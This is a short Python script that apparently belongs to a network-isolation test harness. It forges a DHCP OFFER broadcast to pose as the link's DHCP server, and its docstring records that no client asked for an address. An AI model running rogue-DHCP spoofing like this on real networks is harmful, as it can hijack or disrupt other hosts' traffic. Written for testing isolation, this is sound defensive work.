# SPDX-License-Identifier: Apache-2.0
"""Being the DHCP server of the link.

unheard: nobody asked for an address
recorded: 4=~router
"""
import struct

from attack import attempt, BROADCAST, ip4


def way(a):
    data = b'\x02\x01\x06\0' + bytes(232) + b'\x63\x82\x53\x63\x35\x01\x02\xff' + a.mark
    body = struct.pack('>HHHH', 67, 68, 8 + len(data), 0) + data
    a.frame(ip4(17, body, a.own, '255.255.255.255'), to=BROADCAST)


attempt(way, (4,))
